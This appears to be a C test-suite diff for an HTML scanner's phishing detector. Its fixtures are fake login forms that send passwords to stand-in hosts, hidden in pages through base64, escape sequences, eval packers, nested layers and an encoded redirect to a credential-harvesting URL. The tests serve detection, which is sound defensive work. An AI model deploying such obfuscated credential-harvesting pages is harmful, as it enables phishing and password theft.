@@ -564,6 +564,222 @@ test_utf8_split(void **state)
 	done(&s);
 }
 
+/*
+ * Login forms a script writes from an encoded string (om_html_forms):
+ * each way of hiding the same form is read back to its password input.
+ */
+#define HIDDEN_FORM	"<form method=\"post\" action=\"https://doc-login-view.example/p.php\">" \
+			"Mail <input name=\"e\"> Password <input type=\"password\" name=\"p\"></form>"
+
+/* forms_of - om_html_forms() of a page with enc put in place of its "%s" */
+static unsigned
+forms_of(const char *fmt, const char *enc, char *action, size_t size)
+{
+	const char *at = strstr(fmt, "%s");
+	char   *page = g_strdup_printf("%.*s%s%s", (int) (at - fmt), fmt, enc, at + 2);
+	unsigned found = om_html_forms(page, strlen(page), action, size);
+
+	g_free(page);
+	return (found);
+}
+
+static void
+test_forms_script(void **state)
+{
+	const char *form = HIDDEN_FORM;
+	size_t  n = strlen(form);
+	gchar  *b64 = g_base64_encode((const guchar *) form, n);
+	GString *pct = g_string_new(""), *codes = g_string_new(""), *hex = g_string_new(""),
+		*uni = g_string_new("");
+	char    action[256];
+	unsigned found;
+	struct {
+		const char *fmt;
+		const char *enc;
+	} cases[7];
+
+	(void) state;
+	for (size_t i = 0; i < n; i++) {
+		g_string_append_printf(pct, "%%%02X", (unsigned char) form[i]);
+		g_string_append_printf(codes, "%s%u", i ? ", " : "", (unsigned char) form[i]);
+		g_string_append_printf(hex, "\\x%02x", (unsigned char) form[i]);
+		g_string_append_printf(uni, "\\u%04x", (unsigned char) form[i]);
+	}
+	cases[0].fmt = "<script>document.write(atob(\"%s\"));</script>";
+	cases[0].enc = b64;
+	cases[1].fmt = "<script>var s = '%s'; var t = s;\ndocument.body.innerHTML = window.atob(t)</script>";
+	cases[1].enc = b64;
+	cases[2].fmt = "<body><script>document.write(unescape(\"%s\"))</script>";
+	cases[2].enc = pct->str;
+	cases[3].fmt = "<script>document.writeln(decodeURIComponent('%s'))</script>";
+	cases[3].enc = pct->str;
+	cases[4].fmt = "<script>document.write(String.fromCharCode(%s));</script>";
+	cases[4].enc = codes->str;
+	cases[5].fmt = "<div id=x></div><script>document.getElementById('x').insertAdjacentHTML('beforeend', \"%s\")</script>";
+	cases[5].enc = uni->str;
+	cases[6].fmt = "<iframe src=\"data:text/html;base64,%s\"></iframe>";
+	cases[6].enc = b64;
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		found = forms_of(cases[i].fmt, cases[i].enc, action, sizeof(action));
+		if (!(found & OM_HTML_PASSWORD) || !(found & OM_HTML_SCRIPTED))
+			fail_msg("case %zu: found %#x", i, found);
+		assert_string_equal(action, "https://doc-login-view.example/p.php");
+	}
+	/* Hex escapes in an event handler; a literal cut in two and joined. */
+	found = forms_of("<body onload='document.write(\"%s\")'>", hex->str, action, sizeof(action));
+	assert_true(found & OM_HTML_PASSWORD);
+	{
+		char   *cut = g_strdup_printf("%.9s\" +\n \"%s", b64, b64 + 9);
+
+		found = forms_of("<script>var a = \"%s\"; document.write(atob(a));</script>", cut, action,
+				 sizeof(action));
+		assert_true(found & OM_HTML_PASSWORD);
+		g_free(cut);
+	}
+	/* A variable of one script used by the next. */
+	found = forms_of("<script>var k = \"%s\";</script><p>x</p><script>document.write(atob(k))</script>", b64,
+			 action, sizeof(action));
+	assert_true(found & OM_HTML_PASSWORD);
+	/* UTF-8 through escape() and decodeURIComponent; jQuery's html(). */
+	found = forms_of("<script>document.write(decodeURIComponent(escape(self.atob('%s'))))</script>", b64,
+			 action, sizeof(action));
+	assert_true(found & OM_HTML_PASSWORD);
+	found = forms_of("<script>$(\"#x\").html(atob(\"%s\"));</script>", b64, action, sizeof(action));
+	assert_true(found & OM_HTML_PASSWORD);
+	/* The same markup in plain view is no script's. */
+	found = om_html_forms(form, n, action, sizeof(action));
+	assert_true(found & OM_HTML_PASSWORD);
+	assert_false(found & (OM_HTML_SCRIPTED | OM_HTML_OBFUSCATED));
+	g_free(b64);
+	g_string_free(pct, TRUE);
+	g_string_free(codes, TRUE);
+	g_string_free(hex, TRUE);
+	g_string_free(uni, TRUE);
+}
+
+/* Scripts that hide what they write, or where they send the reader. */
+static void
+test_forms_obfuscated(void **state)
+{
+	static const char *const hidden[] = {
+		"<script>var k = load(); document.write(atob(k.split('').reverse().join('')))</script>",
+		"<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>",
+		"<script>document.write(unescape(x))</script>",
+		"<script>el.innerHTML = dec(\"VGhpcyBpcyBvbmx5IGEgbG9uZyBwYXlsb2FkIHRoYXQgYSBwYWdlIGRlY29kZXMgd2l0aCBpdHMgb3duIGZ1bmN0aW9uIGJlZm9yZSB3cml0aW5nIGl0IGludG8gdGhlIHBhZ2UsIHNvIGl0IGNhbm5vdCBiZSByZWFkIGhlcmUgYXQgYWxsWW91IGNhbm5vdCByZWFkIHRoaXMgZWl0aGVy\")</script>",
+	};
+	char    action[256];
+	char   *page;
+	gchar  *url;
+	unsigned found;
+
+	(void) state;
+	for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++) {
+		found = om_html_forms(hidden[i], strlen(hidden[i]), action, sizeof(action));
+		if (!(found & OM_HTML_OBFUSCATED))
+			fail_msg("case %zu: found %#x", i, found);
+	}
+	url = g_base64_encode((const guchar *) "http://203.0.113.77:8080/owa/login.php", 38);
+	page = g_strdup_printf("<script>window.location.href = atob('%s');</script>", url);
+	found = om_html_forms(page, strlen(page), action, sizeof(action));
+	assert_true(found & OM_HTML_REDIRECT);
+	assert_string_equal(action, "http://203.0.113.77:8080/owa/login.php");
+	g_free(page);
+	g_free(url);
+}
+
+/*
+ * Guard: ordinary page scripts stay clean: the classic analytics snippet
+ * (unescape of literals around a variable), a date written in, a plain
+ * redirect, a survey form in view.
+ */
+static void
+test_forms_benign_scripts(void **state)
+{
+	static const char *const pages[] = {
+		"<script type=\"text/javascript\">var gaJsHost = ((\"https:\" == document.location.protocol) ? "
+		"\"https://ssl.\" : \"http://www.\");\ndocument.write(unescape(\"%3Cscript src='\" + gaJsHost + "
+		"\"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));</script>",
+		"<p id=d></p><script>document.getElementById('d').innerHTML = new Date().toLocaleDateString();</script>",
+		"<script>location.href = \"https://www.sakura-hoken.example/news/\";</script>",
+		"<script>var q = encodeURIComponent(document.title); document.write('<img src=\"/t.gif?' + q + '\">');</script>",
+		"<script>var data = eval(\"(\" + req.responseText + \")\");</script>",
+	};
+	char    action[256];
+	unsigned found;
+
+	(void) state;
+	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
+		found = om_html_forms(pages[i], strlen(pages[i]), action, sizeof(action));
+		if (found != 0)
+			fail_msg("case %zu: found %#x", i, found);
+	}
+}
+
+/* Bounds: encodings nested past the depth, a huge payload, stay bounded. */
+static void
+test_forms_bounds(void **state)
+{
+	char   *layer = g_strdup(HIDDEN_FORM), *page;
+	char    action[256];
+	unsigned found;
+
+	(void) state;
+	/* Ten pages each writing the next: only the first few are read. */
+	for (int i = 0; i < 10; i++) {
+		gchar  *b = g_base64_encode((const guchar *) layer, strlen(layer));
+
+		g_free(layer);
+		layer = g_strdup_printf("<script>document.write(atob(\"%s\"))</script>", b);
+		g_free(b);
+	}
+	found = om_html_forms(layer, strlen(layer), action, sizeof(action));
+	assert_false(found & OM_HTML_PASSWORD);
+	g_free(layer);
+	/* Two layers are read through. */
+	{
+		gchar  *b1 = g_base64_encode((const guchar *) HIDDEN_FORM, strlen(HIDDEN_FORM));
+		gchar  *l1 = g_strdup_printf("<script>document.write(atob(\"%s\"))</script>", b1);
+		gchar  *b2 = g_base64_encode((const guchar *) l1, strlen(l1));
+
+		page = g_strdup_printf("<script>document.write(atob(\"%s\"))</script>", b2);
+		found = om_html_forms(page, strlen(page), action, sizeof(action));
+		assert_true(found & OM_HTML_PASSWORD);
+		g_free(page);
+		g_free(b1);
+		g_free(l1);
+		g_free(b2);
+	}
+	/*
+	 * Twenty thousand writes of a 500 KiB variable would copy 10 GB:
+	 * the work per document is bounded, so this returns at once.
+	 */
+	{
+		GString *g = g_string_new("<script>var s = \"");
+
+		for (int i = 0; i < 500000; i++)
+			g_string_append_c(g, 'Q');
+		g_string_append(g, "\";");
+		for (int i = 0; i < 20000; i++)
+			g_string_append(g, "document.write(s);");
+		g_string_append(g, "</script>");
+		found = om_html_forms(g->str, g->len, action, sizeof(action));
+		assert_false(found & OM_HTML_PASSWORD);
+		g_string_free(g, TRUE);
+	}
+	/* 8 MiB of base64 in one literal: past the caps, nothing crashes. */
+	{
+		size_t  n = 8u << 20;
+		char   *big = g_malloc(n + 64);
+
+		memcpy(big, "<script>document.write(atob(\"", 29);
+		memset(big + 29, 'A', n);
+		memcpy(big + 29 + n, "\"))</script>", 13);
+		found = om_html_forms(big, strlen(big), action, sizeof(action));
+		assert_false(found & OM_HTML_PASSWORD);
+		g_free(big);
+	}
+}
+
 int
 main(void)
 {
@@ -582,6 +798,10 @@ main(void)
 		cmocka_unit_test(test_nul),
 		cmocka_unit_test(test_nul_in_markup),
 		cmocka_unit_test(test_utf8_split),
+		cmocka_unit_test(test_forms_script),
+		cmocka_unit_test(test_forms_obfuscated),
+		cmocka_unit_test(test_forms_benign_scripts),
+		cmocka_unit_test(test_forms_bounds),
 	};
 
 	om_log_open("test_html", 0, 0);
